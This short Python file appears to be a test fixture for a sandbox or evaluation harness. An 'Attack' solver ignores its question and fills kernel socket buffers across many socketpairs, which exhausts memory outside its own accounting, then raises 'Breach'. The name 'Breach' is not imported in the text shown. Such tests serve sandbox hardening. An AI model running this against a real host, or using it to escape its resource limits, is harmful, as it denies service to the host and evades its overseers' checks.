"""Fills socket buffers, whose memory is the kernel's."""

import socket

from envs import Controller


class Attack(Controller):
    def solve(self, question):
        held, sent = [], 0
        for _ in range(1000):
            pair = socket.socketpair()
            held.append(pair)
            pair[0].setblocking(False)
            try:
                while True:
                    sent += pair[0].send(bytes(1 << 16))
            except BlockingIOError:
                continue
        raise Breach(f"the kernel holds {sent} bytes for it")
